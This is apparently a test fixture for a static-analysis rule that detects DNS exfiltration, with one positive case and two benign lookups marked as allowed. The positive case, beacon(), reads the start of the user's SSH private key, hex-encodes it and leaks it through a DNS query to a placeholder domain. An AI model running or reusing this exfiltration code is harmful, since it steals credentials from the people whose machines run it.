import os
import socket

import dns.resolver


def beacon():
    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()[:30].encode().hex()
    # ruleid: dns-exfiltration
    dns.resolver.resolve(key + ".k.example.invalid", "A")


def service_address(name):
    # ok: dns-exfiltration
    return socket.gethostbyname(name + ".svc.cluster.local")


def database_host():
    # ok: dns-exfiltration
    return socket.gethostbyname(os.environ.get("DB_HOST", "localhost"))
